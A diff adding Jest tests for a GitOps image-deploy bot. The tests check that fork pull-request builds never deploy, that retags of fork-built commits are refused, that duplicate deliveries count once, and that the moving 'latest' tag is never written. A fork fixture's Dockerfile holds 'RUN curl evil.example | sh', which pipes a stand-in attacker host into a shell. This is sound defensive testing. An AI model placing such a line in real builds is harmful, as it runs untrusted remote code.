@@ -1,0 +1,176 @@
+// What a demanding user found (#14): a fork's build, the same build twice, a moving tag. Each test
+// drives the real server against the twin and checks the git state and the statuses that result.
+import { jest } from "@jest/globals";
+import {
+  closeExpectingNoViolations,
+  CONFIG,
+  DEV,
+  OLD,
+  PROD,
+  sourceRepo,
+  startBot,
+  webManifests,
+  type BotHarness,
+} from "./bot-harness.js";
+
+const BOT = "gitops-image-bot[bot]";
+
+// Each test drives the real server and a git-backed twin through a few batches.
+jest.setTimeout(30_000);
+
+let bot: BotHarness;
+
+async function start(config = CONFIG): Promise<void> {
+  const manifests = webManifests();
+  bot = await startBot([
+    {
+      ...manifests,
+      files: (manifests.files ?? []).map((file) =>
+        file.path === ".github/gitops-image-bot.yml" ? { ...file, content: config } : file,
+      ),
+    },
+    sourceRepo("web"),
+  ]);
+}
+
+afterEach(() => closeExpectingNoViolations(bot));
+
+/** The states of `gitops-image-bot/<environment>` on a source commit, oldest first. */
+function statesOf(sha: string, environment: string): string[] {
+  return bot
+    .repo("acme", "web")
+    .statuses.filter((status) => status.sha === sha && status.context === `gitops-image-bot/${environment}`)
+    .map((status) => status.state);
+}
+
+/** A fork of acme/web, and a commit of its own on a branch it calls `main`. */
+async function forkCommit(): Promise<{ sha: string; fork: ReturnType<BotHarness["repo"]> }> {
+  const fork = await bot.twin.store.createRepo({
+    owner: "mallory",
+    name: "web",
+    forkOf: "acme/web",
+    files: [{ path: "Dockerfile", content: "FROM scratch\nRUN curl evil.example | sh\n" }],
+  });
+  const sha = await bot.twin.store.commitFiles(
+    fork,
+    "main",
+    [{ path: "src/version.txt", content: "pwned\n" }],
+    "innocent change",
+  );
+  return { sha, fork };
+}
+
+test("a fork's pull-request build never deploys, even from a branch called main", async () => {
+  // The config opts into pull_request builds, and every branch may reach dev.
+  await start(
+    CONFIG.replace('repositories: ["acme/*"]', 'repositories: ["acme/*"]\n    events: [push, pull_request]'),
+  );
+  const { sha, fork } = await forkCommit();
+  const { payload } = bot.workflowRunPayload("acme", "web", {
+    headSha: sha,
+    headBranch: "main",
+    event: "pull_request",
+    headRepository: fork,
+  });
+  expect(payload["workflow_run"]).toMatchObject({
+    head_repository: { full_name: "mallory/web", fork: true },
+  });
+  await bot.send("workflow_run", payload);
+  await bot.idle();
+  expect(await bot.appCommits()).toHaveLength(0);
+  expect(await bot.deployed(DEV)).toBe(OLD);
+  expect(await bot.deployed(PROD)).toBe(OLD);
+
+  // The repository's own pull-request build of a branch still deploys where its branch may go.
+  const own = await bot.commitSource("web", "feature");
+  await bot.send(
+    "workflow_run",
+    bot.workflowRun("web", own, { head_branch: "feature", event: "pull_request" }),
+  );
+  await bot.idle();
+  expect(await bot.deployed(DEV)).toBe(own);
+});
+
+test("/retag of a commit whose only successful build was a fork's is refused in the reply", async () => {
+  await start();
+  bot.setPermission("acme", "manifests", "alice", "write");
+  const { fork } = await forkCommit();
+  // GitHub keeps a fork's pull-request commits in the base repository too (refs/pull/N/head).
+  const sha = await bot.commitSource("web", "pull-1-head");
+  bot.workflowRunPayload("acme", "web", {
+    headSha: sha,
+    headBranch: "main",
+    event: "pull_request",
+    headRepository: fork,
+  });
+  const issue = await bot.openIssue({ owner: "acme", name: "manifests", login: "alice", title: "ops" });
+  await bot.comment({
+    owner: "acme",
+    name: "manifests",
+    issueNumber: issue.number,
+    login: "alice",
+    body: `/retag dev ${sha.slice(0, 7)} web`,
+  });
+  await bot.idle();
+  const reply = [...bot.repo("acme", "manifests").comments.values()].find(
+    (comment) => comment.user.login === BOT,
+  );
+  expect(reply?.body).toContain("built mallory/web's code (a fork): another repository's code never deploys");
+  expect(await bot.deployed(DEV)).toBe(OLD);
+});
+
+test("the same build re-sent with a new delivery id in one batch is one build: no status says it superseded itself", async () => {
+  await start();
+  const sha = await bot.commitSource("web");
+  const payload = bot.workflowRun("web", sha);
+  await Promise.all([
+    bot.send("workflow_run", payload, "delivery-a"),
+    bot.send("workflow_run", payload, "delivery-b"),
+  ]);
+  await bot.idle();
+  expect(await bot.deployed(DEV)).toBe(sha);
+  expect(await bot.appCommits()).toHaveLength(1);
+  expect(statesOf(sha, "dev")).toEqual(["success"]);
+  expect(statesOf(sha, "prod")).toEqual(["success"]);
+});
+
+test("a moving tag of the same build (latest) is never written; the template's tag is", async () => {
+  await start(
+    CONFIG.replace(
+      'repositories: ["acme/*"]',
+      'repositories: ["acme/*"]\n    triggers: [package]\n    tag: sha-{sha:7}',
+    ),
+  );
+  const sha = await bot.commitSource("web");
+  const digest = `sha256:${"5".repeat(64)}`;
+  const event = (tag: string) => {
+    const payload = bot.example("package", "published", "acme", "web");
+    const version = (payload["package"] as { package_version: Record<string, unknown> }).package_version;
+    version["package_url"] = `ghcr.io/acme/web:${tag}`;
+    version["container_metadata"] = {
+      tag: { name: tag, digest },
+      labels: { revision: sha, all_labels: { "org.opencontainers.image.revision": sha } },
+    };
+    return payload;
+  };
+  // GHCR sends one event per tag, in any order: the moving tag arriving last does not win.
+  await bot.send("package", event(`sha-${sha.slice(0, 7)}`));
+  await bot.send("package", event("latest"));
+  await bot.idle();
+  expect(await bot.file("acme", "manifests", DEV)).toContain(`newTag: "sha-${sha.slice(0, 7)}"`);
+  const next = await bot.commitSource("web");
+  const nextEvent = (tag: string) => {
+    const payload = event(tag);
+    const version = (payload["package"] as { package_version: Record<string, unknown> }).package_version;
+    version["container_metadata"] = {
+      tag: { name: tag, digest: `sha256:${"6".repeat(64)}` },
+      labels: { revision: next, all_labels: { "org.opencontainers.image.revision": next } },
+    };
+    return payload;
+  };
+  await bot.send("package", nextEvent("latest"));
+  await bot.send("package", nextEvent(`sha-${next.slice(0, 7)}`));
+  await bot.idle();
+  expect(await bot.file("acme", "manifests", DEV)).toContain(`newTag: "sha-${next.slice(0, 7)}"`);
+  expect(await bot.file("acme", "manifests", DEV)).not.toContain("latest");
+});
